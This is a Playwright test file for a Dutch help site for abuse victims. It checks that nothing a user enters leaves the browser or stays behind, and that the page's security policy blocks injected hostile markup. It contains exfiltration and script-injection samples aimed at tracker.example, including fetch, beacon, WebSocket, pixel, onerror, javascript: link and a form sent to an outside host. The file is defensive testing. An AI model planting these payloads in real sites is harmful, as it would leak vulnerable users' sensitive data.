/**
 * The whole leak test: one person uses everything there is, in one tab, while everything that goes out, stays behind or
 * is said is written down. What they typed and chose may stand nowhere. And an attack in the content: what the content
 * check would refuse stands in a page here all the same, and the policy of the page must stop it.
 */
import { expect, type Page, test } from '@playwright/test';
import { serveChanged, servePage } from '../support/changed-site.ts';
import { answer, enter, showResult } from '../support/flow.ts';
import { rootSite, siteUrl } from '../support/sites.ts';
import { keptBy, type Record, spyOn } from '../support/spy.ts';

/** What this person types, and the ids and words of what they choose: nothing of it may leave the screen. */
const typed = 'verkracht door mijn oom';
const secrets =
  /verkracht|mijn oom|oom\b|urk\b|8321|gm0184|image-made-when|images-threatened|last-3-days|\brape\b|without-name|\bself\b|someone-near/i;

/** Kinds of file that opening a page may load from the site itself. */
const loads = /^GET (document|script|stylesheet|font|image|other) /;

/** Ways to reach out or keep, of which none may be used. */
const silent = (records: Record[]) =>
  records.filter(({ kind }) => !['request', 'history', 'title', 'clipboard', 'storage'].includes(kind));

async function useFlow(page: Page) {
  await enter(page, 'self', undefined, './');
  await answer(page, 'safety', 'safe');
  await answer(page, 'what', 'images-threatened', 'rape');
  await answer(page, 'image-made-when', 'unknown');
  await answer(page, 'when', 'last-3-days');
  await page.goBack();
  await page.goForward();
  await showResult(page);
  const place = page.locator('[data-filter]', { has: page.locator('input[type=text]') });
  await page.locator('[data-flow=result] details').evaluateAll((all) => {
    for (const fold of all) (fold as HTMLDetailsElement).open = true;
  });
  await place.locator('input[type=text]').fill('8321');
  await place.getByRole('button', { name: 'Zoek' }).click();
  await page.locator('[data-filter="limits"]').getByLabel('Zonder naam').check();
  await page.locator('[data-edit="what"]').click();
  await answer(page, 'what', 'rape');
  for (const name of ['Alleen het nummer', 'Briefje voor je eerste gesprek'])
    await page.getByRole('button', { name }).click();
  await page.locator('.print-sheet input').first().check();
  await page.evaluate(() => window.dispatchEvent(new Event('beforeprint')));
  await page.evaluate(() => window.dispatchEvent(new Event('afterprint')));
}

async function useSearch(page: Page) {
  await page.goto('./zoeken/');
  const field = page.getByLabel('Zoek in je eigen woorden');
  await field.focus();
  await expect(page.locator('[data-search][data-ready]')).toBeVisible();
  await field.pressSequentially(typed);
  await expect(page.locator('[data-result]').first()).toBeVisible();
  await page.getByText('Verfijnen').click();
  await page.getByText('Wat belangrijk is voor jou').first().click();
  await page.locator('[data-wish="limits:free"]').check();
  await page.locator('[data-result] a[href*="/hulp/"]').first().click();
  await expect(page).toHaveURL(/\/hulp\//);
}

async function useHelpPoint(page: Page) {
  await page.goto('./hulp/kindertelefoon/');
  await page.getByRole('button', { name: 'Kopieer het nummer' }).click();
  await page.getByText('Wat blijft er achter?').first().click();
}

async function usePlaces(page: Page) {
  await page.goto('./in-de-buurt/');
  await page.getByLabel('Je postcode of gemeente').fill('8321');
  await page.getByRole('button', { name: 'Zoek' }).click();
  await expect(page.getByRole('heading', { name: 'Hulp voor Urk' })).toBeVisible();
}

async function useTheRest(page: Page) {
  await page.goto('./herkennen/');
  await page.getByLabel('Minder details').check();
  await page.getByText('Wat speelt hier?').first().click();
  await page.goto('./nu-open/');
  await page.goto('./professionals/vergelijken/');
  for (const [index, choice] of (await page.locator('main select').all()).entries())
    await choice.selectOption({ index: index + 1 });
  for (const path of ['./eerste-week/', './afdrukken/', './veilig-en-anoniem/', './bestaat-niet/'])
    await page.goto(path);
}

test('using everything sends, keeps and says nothing of it', async ({ page, context }) => {
  test.setTimeout(120_000);
  await context.grantPermissions(['clipboard-write']);
  const records = await spyOn(context);
  const titles: string[] = [];
  const addresses: string[] = [];
  for (const use of [useFlow, useSearch, useHelpPoint, usePlaces, useTheRest]) {
    await use(page);
    expect(await keptBy(page), use.name).toEqual([]);
    titles.push(await page.title());
    addresses.push(page.url());
    expect(await page.evaluate(() => JSON.stringify(history.state))).toMatch(/^(null|\{"step":\d+\})$/);
  }

  await context.route(
    ({ origin }) => origin !== siteUrl(rootSite),
    (route) => route.fulfill({ contentType: 'text/html', body: 'elders' }),
  );
  await page.goto('./');
  const before = records.length;
  await page.goto('./vragen/');
  await page.locator('#leave').click();
  await page.waitForURL(({ origin }) => origin !== siteUrl(rootSite));
  const exit = records
    .splice(before)
    .filter(({ kind, what }) => kind === 'request' && !what.includes(siteUrl(rootSite)));
  expect(exit).toHaveLength(1); // one visit, no Referer, no data
  expect(exit[0]?.what).toMatch(/^GET document https:\/\/\S+ {2}$/);
  await page.goBack();
  const kept = (await keptBy(page)).filter((one) => !/^\d+ bytes$/.test(one));
  expect(kept).toEqual(['sessionStorage w=1']);

  expect(records.length).toBeGreaterThan(30);
  expect(records.filter(({ what }) => secrets.test(what))).toEqual([]);
  expect(titles.filter((title) => secrets.test(title))).toEqual([]);
  expect(addresses.filter((address) => secrets.test(address) || /[?#]/.test(address))).toEqual([]);
  const requests = records.filter(({ kind }) => kind === 'request').map(({ what }) => what);
  expect(requests.filter((what) => !loads.test(what) || !what.includes(` ${siteUrl(rootSite)}/`))).toEqual(
    [],
  );
  expect(requests.filter((what) => !/ \S+ {2}$/.test(what))).toEqual([]); // no body, no Referer
  // The console of the 404 page holds the browser's own line about its status.
  expect(silent(records).filter(({ what }) => !what.includes('status of 404'))).toEqual([]);
  expect(records.filter(({ kind }) => kind === 'storage')).toEqual([]);
  for (const { what } of records.filter(({ kind }) => kind === 'history'))
    expect(what).toMatch(/^\[(null|\{"step":\d+\}),""\]$/);
  for (const { what } of records.filter(({ kind }) => kind === 'clipboard'))
    expect(what).toMatch(/^\["\d+"\]$/);
});

test('the recorder notices every way out', async ({ page, context }) => {
  const records = await spyOn(context);
  await page.goto('./');
  await page.evaluate(async () => {
    const quietly = (use: () => unknown) => {
      try {
        Promise.resolve(use()).catch(() => {});
      } catch {
        // The policy stopped it; that it was tried is what counts.
      }
    };
    quietly(() => fetch('https://tracker.example/'));
    quietly(() => navigator.sendBeacon('https://tracker.example/'));
    quietly(() => new XMLHttpRequest().open('GET', 'https://tracker.example/'));
    quietly(() => new WebSocket('wss://tracker.example/'));
    quietly(() => new EventSource('https://tracker.example/'));
    quietly(() => new RTCPeerConnection());
    quietly(() => new Worker('/worker.js'));
    quietly(() => {
      new Image().src = 'https://tracker.example/';
    });
    quietly(() => localStorage.setItem('a', 'b'));
    quietly(() => history.replaceState({ answer: 'rape' }, ''));
    // biome-ignore lint/suspicious/noDocumentCookie: this is what a leak would do
    quietly(() => (document.cookie = 'a=b'));
    quietly(() => (document.title = 'rape'));
    window.name = 'rape';
    indexedDB.open('a');
  });
  const kinds = new Set(records.map(({ kind }) => kind));
  for (const kind of [
    'fetch',
    'sendBeacon',
    'XMLHttpRequest',
    'WebSocket',
    'EventSource',
    'RTCPeerConnection',
    'Worker',
    'image',
    'storage',
    'history',
    'cookie',
    'title',
    'indexedDB',
  ])
    expect(kinds, kind).toContain(kind);
  expect((await keptBy(page)).join()).toMatch(/cookie a.*localStorage a=b.*window\.name rape/);
});

test.describe('hostile content that got into a page', () => {
  const attack = (tracker: string) => `
    <script>window.attacked = 'inline script'</script>
    <script src="${tracker}script.js"></script>
    <script src="data:text/javascript,window.attacked='data'"></script>
    <img src="${tracker}pixel.png" onerror="window.attacked = 'handler'">
    <img src="x" onerror="window.attacked = 'handler'">
    <p id="styled" style="background: url(${tracker}style.png); color: rgb(1, 2, 3)">stijl</p>
    <style>#styled { background: url(${tracker}sheet.png) }</style>
    <link rel="stylesheet" href="${tracker}sheet.css">
    <iframe src="${tracker}frame"></iframe>
    <object data="${tracker}object"></object>
    <video src="${tracker}video"></video>
    <svg><image href="${tracker}vector.png"/></svg>
    <form id="form" action="${tracker}form"><input name="q" value="geheim"></form>
    <base href="${tracker}">
    <a id="run" href="javascript:window.attacked = 'link'">lees meer</a>`;

  test('runs no script, loads nothing from elsewhere and sends no form', async ({ page }) => {
    // A real server: the browser announces a request before the policy stops it, so what counts is what arrives.
    const tracker = await servePage('window.attacked = "script"');
    const site = await serveChanged((html) =>
      html.replace(/<main[^>]*>/, (main) => `${main}${attack(tracker.url)}`),
    );
    try {
      await page.goto(`${site.url}over/`, { waitUntil: 'domcontentloaded' });
      await page.evaluate(() => document.getElementById('run')?.click());
      const seen = await page.evaluate(() => ({
        attacked: (window as unknown as { attacked?: string }).attacked,
        colour: getComputedStyle(document.getElementById('styled') as Element).color,
      }));
      expect(seen.attacked).toBeUndefined();
      expect(seen.colour).not.toBe('rgb(1, 2, 3)');
      await page.evaluate(() => (document.getElementById('form') as HTMLFormElement).submit());
      await page.waitForTimeout(300); // for what would go out
      expect(tracker.requests.map(({ url }) => url)).toEqual([]);
      expect(page.url()).toBe(`${site.url}over/`);
    } finally {
      site.stop();
      tracker.stop();
    }
  });

  test('would do all of that on a page without a policy', async ({ page }) => {
    const tracker = await servePage('window.attacked = "script"');
    const bare = await servePage(`<!doctype html><main>${attack(tracker.url)}</main>`);
    try {
      await page.goto(bare.url, { waitUntil: 'domcontentloaded' });
      await expect.poll(() => new Set(tracker.requests.map(({ url }) => url)).size).toBeGreaterThan(5);
      expect(await page.evaluate(() => 'attacked' in window)).toBe(true);
    } finally {
      bare.stop();
      tracker.stop();
    }
  });
});
